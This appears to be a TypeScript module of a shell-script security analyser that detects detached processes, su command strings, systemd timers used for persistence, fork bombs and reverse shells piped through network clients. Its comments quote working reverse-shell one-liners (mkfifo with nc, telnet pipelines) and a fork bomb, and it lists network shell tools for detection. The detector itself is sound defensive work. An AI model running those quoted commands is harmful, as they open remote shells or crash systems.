import type { Node } from 'web-tree-sitter';
import type { Value } from '../../../facts.js';
import { literal } from '../../values.js';
import { type Cmd, type Handler, SHELLS, withArgv } from '../cmd.js';
import { parseOpts } from '../options.js';
import { joinValues } from '../params.js';
import type { ShellState } from '../state.js';
import { runCode } from './exec.js';

/**
 * Process-level behaviours: detaching from the session (`disown`, `screen -dm`, `tmux new -d`, with the
 * command they start analysed), fork bombs in any naming, and reverse shells wired through a pipeline
 * (`mkfifo f; cat f | sh -i | nc h p > f`, `nc h p | sh`, `telnet h p | sh | telnet h q`).
 */

function disown(st: ShellState, cmd: Cmd): Value | undefined {
  st.emit({ kind: 'detach', how: 'disown' }, cmd.start, cmd.end);
  return undefined;
}

/** `screen -dm[S name] cmd…`, `tmux new[-session] -d [-s name] 'cmd'`: detached, and the command runs. */
function multiplexer(st: ShellState, cmd: Cmd): Value | undefined {
  const args = cmd.argv.slice(1);
  if (cmd.name === 'screen') {
    const detached =
      args.some((w) => /^-[a-zA-Z]*d[a-zA-Z]*m|^-[a-zA-Z]*m[a-zA-Z]*d|^-D$/.test(w.v.text)) ||
      (args.some((w) => w.v.text === '-d') && args.some((w) => w.v.text === '-m'));
    if (!detached) return undefined;
    st.emit({ kind: 'detach', how: 'screen -dm' }, cmd.start, cmd.end);
    const p = parseOpts(args, { short: 'SLclLpT', stopAtOperand: true });
    if (p.operands.length) st.exec(withArgv(cmd, p.operands, 'screen'));
    return undefined;
  }
  const sub = args[0]?.v.text ?? '';
  if (
    !['new', 'new-session', 'new-window', 'neww', 'split-window', 'splitw', 'send-keys', 'send'].includes(sub)
  )
    return undefined;
  const p = parseOpts(args.slice(1), { short: 'sncxyFtefwlpTDA', stopAtOperand: true });
  const detached =
    sub.startsWith('new-w') || sub === 'neww' || sub.startsWith('s') || p.opts.some((o) => o.name === '-d');
  if (!detached) return undefined;
  st.emit({ kind: 'detach', how: `tmux ${sub} -d` }, cmd.start, cmd.end);
  const words = sub.startsWith('send')
    ? p.operands.filter((w) => !/^(?:Enter|C-m|KPEnter)$/.test(w.v.text))
    : p.operands;
  if (words.length === 0) return undefined;
  // tmux runs a single string argument through the shell, and several words as argv.
  const code = joinValues(words.map((w) => w.v));
  runCode(
    st,
    'shell',
    'tmux',
    code,
    {
      start: words[0]!.start,
      end: words[words.length - 1]!.end,
      ...(words.length === 1 && words[0]!.exact !== undefined ? { exact: words[0]!.exact } : {}),
    },
    { evidenceStart: cmd.start, evidenceEnd: cmd.end },
  );
  return undefined;
}

/** `watch -n 5 'cmd'`, `script -qc 'cmd'`, `su -c 'cmd'`: a command string run by a shell. */
function commandString(st: ShellState, cmd: Cmd): Value | undefined {
  const args = cmd.argv.slice(1);
  let words = args;
  if (cmd.name === 'watch')
    words = parseOpts(args, { short: 'nd', long: ['interval', 'differences'], stopAtOperand: true }).operands;
  else {
    const c = args.findIndex(
      (w) => w.v.text === '-c' || w.v.text === '--command' || /^-[a-z]*c$/.test(w.v.text),
    );
    words = c >= 0 ? args.slice(c + 1, c + 2) : [];
  }
  if (cmd.name === 'su') {
    st.emit(
      {
        kind: 'privilege',
        how: 'su',
        command: words
          .map((w) => w.v.text)
          .join(' ')
          .slice(0, 300),
        interpreter: true,
      },
      cmd.start,
      cmd.end,
    );
    if (words.length === 0 && cmd.stdin)
      runCode(st, 'shell', 'su', cmd.stdin, { start: cmd.pipeStart, end: cmd.pipeEnd });
  }
  if (words.length === 0) return undefined;
  const code = joinValues(words.map((w) => w.v));
  const one = words.length === 1 ? words[0]! : undefined;
  runCode(
    st,
    'shell',
    cmd.name,
    code,
    {
      start: words[0]!.start,
      end: words[words.length - 1]!.end,
      ...(one?.exact !== undefined ? { exact: one.exact } : {}),
    },
    { evidenceStart: cmd.start, evidenceEnd: cmd.end },
  );
  return undefined;
}

/** A function that calls itself twice per call, in a pipeline or in the background: `:(){ :|:& };:`. */
export function forkBomb(st: ShellState, name: string, body: Node, start: number, end: number): void {
  let calls = 0;
  let spawning = false;
  const stack: Node[] = [body];
  for (let n = 0; stack.length && n < 512; n++) {
    const cur = stack.pop()!;
    if (cur.type === 'command') {
      const nameNode = cur.childForFieldName('name');
      if (nameNode && st.slice(nameNode.startIndex, nameNode.endIndex) === name) {
        calls++;
        const parent = cur.parent;
        const next = cur.nextSibling;
        if (parent?.type === 'pipeline' || next?.type === '&') spawning = true;
      }
    }
    for (let i = 0; i < cur.childCount; i++) {
      const c = cur.child(i);
      if (c) stack.push(c);
    }
  }
  if (calls >= 2 && spawning) st.emit({ kind: 'destroy', how: 'fork-bomb', target: name }, start, end);
}

const NET_CLIENTS = new Set(['nc', 'telnet', 'openssl', 'socat', 'ssh']);

/** A pipeline joining a shell and a network client is a shell driven from the network. */
export function pipelineChecks(st: ShellState, names: readonly string[], start: number, end: number): void {
  if (names.length < 2) return;
  const shell = names.some((n) => SHELLS.has(n));
  const client = names.find((n) => NET_CLIENTS.has(n) && n !== 'ssh');
  if (shell && client)
    st.emit(
      {
        kind: 'reverse-shell',
        how: `shell piped through ${client}`,
        endpoint: st.lastEndpoint ?? { cls: 'unknown' },
      },
      start,
      end,
    );
}

/** systemd-run options that make a timer: the command runs again later, after the session and the agent are gone. */
const TIMER_OPTS = [
  '--on-calendar',
  '--on-active',
  '--on-boot',
  '--on-startup',
  '--on-unit-active',
  '--on-unit-inactive',
  '--on-clock-change',
  '--on-timezone-change',
  '--timer-property',
];

/**
 * `systemd-run [--user] --on-calendar=… CMD`: a transient timer that runs CMD on a schedule, like a crontab
 * line (with `loginctl enable-linger` it runs while the user is logged out too). The command also runs as
 * one of this script's. Without a timer option the unit runs now and ends.
 */
function systemdRun(st: ShellState, cmd: Cmd): Value | undefined {
  const p = parseOpts(cmd.argv.slice(1), {
    short: 'upEMH',
    long: [
      'unit',
      'property',
      'description',
      'slice',
      'setenv',
      'uid',
      'gid',
      'nice',
      'machine',
      'host',
      'working-directory',
      'service-type',
      'path-property',
      'socket-property',
      ...TIMER_OPTS.map((o) => o.slice(2)),
    ],
    stopAtOperand: true,
  });
  if (p.operands.length === 0) return undefined;
  if (p.opts.some((o) => TIMER_OPTS.includes(o.name)))
    st.emit(
      {
        kind: 'write',
        target: literal('systemd timer'),
        cls: 'autostart',
        content: joinValues(p.operands.map((w) => w.v)),
        append: false,
      },
      cmd.start,
      cmd.end,
    );
  st.exec(withArgv(cmd, p.operands, 'systemd-run'));
  return undefined;
}

export const SYSTEM_HANDLERS: Array<[string, Handler]> = [
  ['systemd-run', systemdRun],
  ['disown', disown],
  ['screen', multiplexer],
  ['tmux', multiplexer],
  ['watch', commandString],
  ['script', commandString],
  ['su', commandString],
  ['sg', commandString],
];
